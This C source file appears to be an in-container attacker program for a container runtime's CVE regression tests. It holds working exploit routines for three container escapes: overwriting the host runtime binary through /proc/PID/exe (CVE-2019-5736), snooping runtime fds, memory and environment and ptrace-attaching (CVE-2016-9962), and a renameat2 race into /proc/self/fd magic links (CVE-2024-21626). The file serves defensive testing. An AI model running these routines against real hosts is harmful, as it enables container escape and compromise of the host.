/* The attacker inside the container, for the CVE tests (tests/cve/). Built static at test time
 * (`cc -static`) and copied into the container's rootfs; it races the runtime for a bounded
 * time and writes what it achieved to a result file.
 *
 *   attacker exe-writer SECONDS RESULT    CVE-2019-5736
 *     Watches /proc for processes whose executable is neither busybox nor itself (the
 *     runtime, or what the runtime runs as the container's process), opens their
 *     /proc/PID/exe, kills them (so the binary is no longer busy; not the container's init,
 *     whose end would be the attacker's), and tries to write through
 *     the descriptor it kept (/proc/self/fd/N): had the runtime's binary been reachable, the
 *     host's runtime would be overwritten.
 *
 *   attacker snoop SECONDS RESULT         CVE-2016-9962
 *     Watches /proc for processes whose executable is neither busybox nor itself (a runtime
 *     process joining the container) and tries to open their /proc/PID/fd, /proc/PID/mem and
 *     /proc/PID/environ, and to ptrace-attach to them.
 *
 *   attacker swap SECONDS DIR             CVE-2024-21626, raced
 *     Keeps exchanging DIR/work (a directory) with each of DIR/fd3 .. DIR/fd12 (symlinks to
 *     /proc/self/fd/N) and back (renameat2 RENAME_EXCHANGE), so that a runtime that checks the
 *     cwd once and enters it later may enter a magic link. Writes "done" to DIR/swapped.
 *
 * RESULT gets one line per success ("wrote ...", "opened-fd ...") and a final "done" line with
 * counters. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct stat own, busybox;
static FILE *result;
static long seen, opened, denied;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Whether PID runs something other than busybox or this program: 1 if so (its exe link in
 * NAME), 2 if its exe cannot be looked at (not dumpable: a runtime process in setup), 0 if
 * not (or gone). */
static int is_target(int pid, char *name, size_t len) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, name, len - 1);
    name[n < 0 ? 0 : n] = 0;
    if (stat(path, &st) == 0) {
        if (st.st_dev == own.st_dev && st.st_ino == own.st_ino) return 0;
        if (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino) return 0;
        return 1;
    }
    if (errno == EACCES || errno == EPERM) {
        denied++;
        snprintf(name, len, "(not dumpable)");
        return 2;
    }
    return 0;
}

static void exe_writer(int pid, const char *name) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        if (errno == EACCES || errno == EPERM) denied++;
        return;
    }
    opened++;
    /* Killing the container's init would end the attacker too. */
    if (pid != 1) kill(pid, SIGKILL);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int last = 0;
    for (int i = 0; i < 2000; i++) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = write(w, "#!/bin/sh\necho pwned\n", 21);
            fprintf(result, "wrote %zd bytes to %s (pid %d)\n", n, name, pid);
            fflush(result);
            close(w);
            last = 0;
            break;
        }
        last = errno;
        if (last != ETXTBSY) break;
        usleep(500);
    }
    if (last) fprintf(result, "refused %s (pid %d): %s\n", name, pid, strerror(last));
    close(fd);
}

/* After an access to PID succeeded: whether PID was still not the user's program (busybox),
 * so that the access reached the runtime and not the program it had executed by then. */
static int still_runtime(int pid) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &st) != 0) return errno == EACCES || errno == EPERM;
    return !(st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino);
}

static void snoop(int pid, const char *name) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            /* The numbers can be listed (the directory is root's, and so is the
             * attacker); following an entry is what needs access to the process. */
            char link[300], target[256];
            snprintf(link, sizeof link, "/proc/%d/fd/%s", pid, e->d_name);
            ssize_t n = readlink(link, target, sizeof target - 1);
            int fd = open(link, O_PATH | O_CLOEXEC);
            if (n < 0 && fd < 0) {
                denied++;
                continue;
            }
            target[n < 0 ? 0 : n] = 0;
            if (still_runtime(pid))
                fprintf(result, "opened-fd %s of %s (pid %d): %s\n", e->d_name, name, pid, target);
            if (fd >= 0) close(fd);
        }
        closedir(d);
        fflush(result);
    } else if (errno == EACCES || errno == EPERM) {
        denied++;
    }
    const char *files[] = {"mem", "environ"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            if (still_runtime(pid)) {
                fprintf(result, "opened-%s of %s (pid %d)\n", files[i], name, pid);
                fflush(result);
            }
            close(fd);
        }
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        /* Stopped, the tracee's image is settled: was it still the runtime? */
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        if (still_runtime(pid)) {
            fprintf(result, "ptrace-attached %s (pid %d)\n", name, pid);
            fflush(result);
        }
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static int swap(double end, const char *dir) {
    char work[4096], link[4096];
    snprintf(work, sizeof work, "%s/work", dir);
    long swaps = 0;
    while (now() < end) {
        for (int n = 3; n <= 12; n++) {
            snprintf(link, sizeof link, "%s/fd%d", dir, n);
            if (renameat2(AT_FDCWD, work, AT_FDCWD, link, RENAME_EXCHANGE) != 0) return 5;
            for (volatile int i = 0; i < 20000; i++) {}
            if (renameat2(AT_FDCWD, work, AT_FDCWD, link, RENAME_EXCHANGE) != 0) return 5;
            for (volatile int i = 0; i < 20000; i++) {}
            swaps++;
        }
    }
    snprintf(link, sizeof link, "%s/swapped", dir);
    FILE *f = fopen(link, "w");
    if (!f) return 6;
    fprintf(f, "done swaps=%ld\n", swaps);
    fclose(f);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    double end = now() + atof(argv[2]);
    if (strcmp(argv[1], "swap") == 0) return swap(end, argv[3]);
    int writer = strcmp(argv[1], "exe-writer") == 0;
    result = fopen(argv[3], "w");
    if (!result || stat("/proc/self/exe", &own) || stat("/bin/busybox", &busybox)) return 3;
    fprintf(result, "started\n");
    fflush(result);
    int self = getpid();
    while (now() < end) {
        DIR *proc = opendir("/proc");
        if (!proc) return 4;
        struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid < 1 || pid == self) continue;
            char name[256];
            int target = is_target(pid, name, sizeof name);
            if (target == 0 || (writer && target == 2)) continue;
            seen++;
            if (writer) exe_writer(pid, name); else snoop(pid, name);
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
    fprintf(result, "done seen=%ld opened=%ld denied=%ld\n", seen, opened, denied);
    fclose(result);
    return 0;
}
